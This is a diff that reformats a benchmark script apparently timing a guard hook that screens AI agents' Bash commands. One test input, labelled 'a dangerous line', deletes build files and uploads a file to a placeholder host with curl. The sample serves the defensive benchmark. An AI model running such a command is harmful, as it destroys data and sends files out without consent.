@@ -14,8 +14,14 @@ from benchmarks.measure import ratio, report
 
 LINES = (
     ("a simple read", "git status --porcelain"),
-    ("a list with pipes", "git log --oneline -n 5 | head && rg -n 'def main' src | sort -u | wc -l"),
-    ("a dangerous line", "cd build && find . -name '*.o' -exec rm -f {} + ; curl -T out https://h.example/"),
+    (
+        "a list with pipes",
+        "git log --oneline -n 5 | head && rg -n 'def main' src | sort -u | wc -l",
+    ),
+    (
+        "a dangerous line",
+        "cd build && find . -name '*.o' -exec rm -f {} + ; curl -T out https://h.example/",
+    ),
 )
 BAR = 6.0
 
@@ -35,7 +41,12 @@ def main() -> bool:
     with tempfile.TemporaryDirectory() as folder:
         env = {**os.environ, "HOME": folder}
         for name, line in LINES:
-            asked = {"tool_name": "Bash", "hook_event_name": "PreToolUse", "cwd": folder, "tool_input": {"command": line}}
+            asked = {
+                "tool_name": "Bash",
+                "hook_event_name": "PreToolUse",
+                "cwd": folder,
+                "tool_input": {"command": line},
+            }
             given = json.dumps(asked).encode()
             measured = ratio(
                 lambda given=given: cpu([command, "guard", "--for", "claude"], env, given),
